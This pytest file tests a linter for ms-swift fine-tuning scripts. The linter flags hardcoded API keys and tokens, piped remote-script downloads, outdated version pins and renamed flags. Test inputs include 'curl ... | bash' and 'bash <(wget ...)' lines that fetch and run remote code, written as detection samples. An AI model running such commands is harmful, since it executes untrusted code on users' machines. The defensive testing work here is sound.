"""What stands around the commands: secrets, downloads, pins, and words of an older ms-swift."""

from __future__ import annotations

import pytest

from .conftest import Checker

SFT = "swift sft --model Qwen/Qwen3-8B --dataset data.jsonl"
GRPO = "NPROC_PER_NODE=8 swift rlhf --rlhf_type grpo --model Qwen/Qwen3-8B --dataset data.jsonl --reward_funcs accuracy"
TOKEN = "hf_" + "aB3" * 11
KEY = "0123456789abcdef" * 2 + "01234567"

HITS = [
    ("SEC001", f"export WANDB_API_KEY={KEY}\n{SFT}", "WANDB_API_KEY is written here"),
    ("SEC001", f"{SFT} --hub_token {TOKEN}", "hub_token is written here (hf_"),
    ("SEC001", f"# wandb login {KEY}\n{SFT}", "whoever gets this file has it"),
    ("SEC002", f"curl -s https://example.com/x.sh | bash\n{SFT}", "run at once"),
    ("SEC002", f'bash <(wget -qO- https://example.com/x.sh)\n{SFT}', "run at once"),
    ("VER001", f"pip install 'ms-swift[all]==3.8.1'\n{SFT}", "--swift 3.8.1"),
    ("VER002", f"pip install -U trl==0.12.0\n{SFT}", "trl 0.12.0 does not fit"),
    ("VER002", f"pip install \\\n    transformers==5.30.0 \\\n    peft==0.18.0\n{SFT}", "transformers 5.30.0"),
    ("VER002", f"pip install trl==0.24.0\n{GRPO}", ">=0.26"),
    ("VER003", f"{GRPO} --train_type lora", "--top_k 50 → -1"),
    ("VER003", "NPROC_PER_NODE=8 megatron sft --load mcore --dataset d --max_epochs 1", "--finetune False → True"),
]

SILENT = [
    ("SEC001", f'export WANDB_API_KEY="$WANDB_API_KEY"\n{SFT}'),
    ("SEC001", f"export WANDB_API_KEY=your_key_here\n{SFT} --max_new_tokens 1000000"),
    ("SEC001", f"export OPENAI_API_KEY=EMPTY\n{SFT}"),
    ("SEC002", f"curl -s http://127.0.0.1:8000/health | grep ok\n{SFT}"),
    ("SEC002", f"# curl -s https://example.com/x.sh | bash\n{SFT}"),
    ("VER001", f"pip install ms-swift==4.6.1\n{SFT}"),
    ("VER001", f"# pip install ms-swift==3.8.1\n{SFT}"),
    ("VER001", f"pip install ms-swift -U\n{SFT}"),
    ("VER002", f"pip install trl==0.29.1 transformers==5.12.1 vllm==0.23.0\n{GRPO}"),
    ("VER002", f"pip install trl==0.24.0\n{SFT}"),
    ("VER003", f"{GRPO} --tuner_type lora"),
    ("VER003", f"{GRPO} --train_type lora --top_k 50 --top_p 0.9"),
    ("VER003", f"{SFT} --train_type lora"),  # nothing that changed concerns it
]


@pytest.mark.parametrize(("code", "script", "says"), HITS)
def test_said(check: Checker, code: str, script: str, says: str) -> None:
    found = [finding for finding in check(script) if finding.code == code]
    assert found, f"{code} is silent"
    assert any(says in finding.message for finding in found), [finding.message for finding in found]


@pytest.mark.parametrize(("code", "script"), SILENT)
def test_silent(check: Checker, code: str, script: str) -> None:
    assert [finding.message for finding in check(script) if finding.code == code] == []


@pytest.mark.parametrize("script", [f"export WANDB_API_KEY={KEY}\n{SFT}", f"{SFT} --hub_token {TOKEN}", f"{SFT} --hub_token {TOKEN} {TOKEN}"])
def test_no_message_shows_a_secret(check: Checker, script: str) -> None:
    for finding in check(script):
        if finding.code != "SEC001":
            continue
        shown = finding.message + (finding.fix.description if finding.fix else "") + "".join(str(value) for value in finding.params.values())
        assert KEY not in shown
        assert TOKEN not in shown


def test_the_place_of_a_secret_behind_other_letters(check: Checker) -> None:
    """Spans count bytes."""
    script = f"# schöne Grüße\nexport WANDB_API_KEY={KEY}\n{SFT}"
    finding = next(f for f in check(script) if f.code == "SEC001")
    assert finding.span is not None
    assert script.encode()[finding.span.start : finding.span.end].decode() == KEY


def test_an_old_version_checks_itself(check: Checker) -> None:
    script = f"pip install ms-swift==3.12.6\n{GRPO} --train_type lora"
    assert not {f.code for f in check(script, version="3.12.6")} & {"VER001", "VER003"}
